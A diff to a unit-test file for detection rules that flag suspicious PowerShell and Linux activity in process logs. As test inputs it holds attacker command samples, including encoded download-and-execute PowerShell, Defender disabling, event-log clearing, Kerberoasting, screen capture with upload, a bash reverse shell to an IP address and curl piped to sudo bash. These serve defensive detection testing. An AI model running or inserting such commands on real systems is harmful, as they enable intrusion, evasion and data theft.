@@ -240,12 +240,25 @@ describe('built-in rules', () => {
     [{ CommandLine: 'powershell -nop -enc SQBFAFgAIAAxACAAMQAgADEA' }, 'powershell-encoded'],
     [{ ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x')" }, 'powershell-download'],
     [{ ScriptBlockText: base64('xx AmsiUtils', 'utf16le') }, 'powershell-amsi'],
+    [{ ScriptBlockText: '$c = [Convert]::FromBase64String($x); iex ([Text.Encoding]::UTF8.GetString($c))' }, 'powershell-decoded'],
+    [{ ScriptBlockText: '[System.Reflection.Assembly]::Load($bytes)' }, 'powershell-memory'],
+    [{ ScriptBlockText: 'Invoke-Kerberoast -OutputFormat Hashcat' }, 'powershell-tools'],
+    [{ ScriptBlockText: 'Set-MpPreference -DisableRealtimeMonitoring $true' }, 'powershell-defender'],
+    [{ ScriptBlockText: 'Add-MpPreference -ExclusionPath C:\\x' }, 'powershell-defender'],
+    [{ ScriptBlockText: 'Clear-EventLog Security' }, 'powershell-logs'],
+    [{ ScriptBlockText: 'Get-NetUser | select name' }, 'powershell-directory'],
+    [{ ScriptBlockText: 'Set-WmiInstance __EventFilter; CommandLineEventConsumer' }, 'powershell-wmi-subscription'],
+    [{ ScriptBlockText: '$g.CopyFromScreen(0,0,0,0,$s)' }, 'powershell-spy'],
+    [{ ScriptBlockText: 'Compress-Archive a b; $w.UploadFile($u, "b")' }, 'powershell-upload'],
+    [{ CommandLine: 'powershell.exe -ep bypass -w hidden -file a.ps1' }, 'powershell-hidden'],
+    [{ Image: '/tmp/.x/kworker', CommandLine: 'kworker' }, 'linux-temporary-program'],
+    [{ ParentImage: '/usr/sbin/nginx', Image: '/usr/bin/bash' }, 'linux-web-shell'],
     [{ CommandLine: 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1' }, 'linux-reverse-shell'],
     [{ CommandLine: 'curl -s http://x | sudo bash' }, 'linux-download-shell'],
     [{ CommandLine: 'rm -f /var/log/auth.log' }, 'linux-history'],
   ])('%j is found', (row, id) => expect(ids(row)).toEqual([`gumshoe-${id}`]));
 
-  it.each([{ CommandLine: 'certutil -hashfile a.exe' }, { CommandLine: 'curl -o a.sh http://x' }, { CommandLine: 'powershell -File a.ps1' }, { ScriptBlockText: 'Get-Date' }, {}])('%j is left alone', (row) => {
+  it.each([{ CommandLine: 'certutil -hashfile a.exe' }, { CommandLine: 'curl -o a.sh http://x' }, { CommandLine: 'powershell -File a.ps1' }, { ScriptBlockText: 'Get-Date' }, { ScriptBlockText: 'Set-MpPreference -DisableRealtimeMonitoring $false; Get-Content a | Out-File b' }, { Image: '/usr/bin/bash', ParentImage: '/usr/sbin/sshd' }, {}])('%j is left alone', (row) => {
     expect(ids(row)).toEqual([]);
   });
 
